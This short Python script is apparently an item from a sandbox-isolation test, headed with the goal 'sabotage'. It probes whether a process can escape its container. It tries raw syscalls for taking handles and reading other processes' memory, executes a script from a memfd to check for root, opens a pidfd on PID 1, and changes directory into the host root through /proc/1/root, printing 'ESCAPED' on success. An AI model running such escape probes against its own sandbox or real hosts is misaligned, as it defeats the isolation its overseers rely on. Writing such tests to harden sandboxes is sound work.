# Tries: to move files and rights between its processes: handles, memory files, pidfds and sealed programs.
# Earns: nothing
# Goal: sabotage

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for number in (438, 303, 304, 310, 312):
    if libc.syscall(number, 1, 0, 0, 0, 0) >= 0:
        print("ESCAPED", number)
try:
    memory = os.memfd_create("program")
    os.write(memory, b"#!/bin/sh\nid -u\n")
    if os.popen(f"/proc/self/fd/{memory}").read().strip() == "0":
        print("ESCAPED")
    handle = os.pidfd_open(1)
    os.close(handle)
    print(os.readlink("/proc/1/root"), os.listdir("/proc/1/root")[:50])
    os.chdir("/proc/1/root/root")
    print("ESCAPED")
except OSError:
    pass
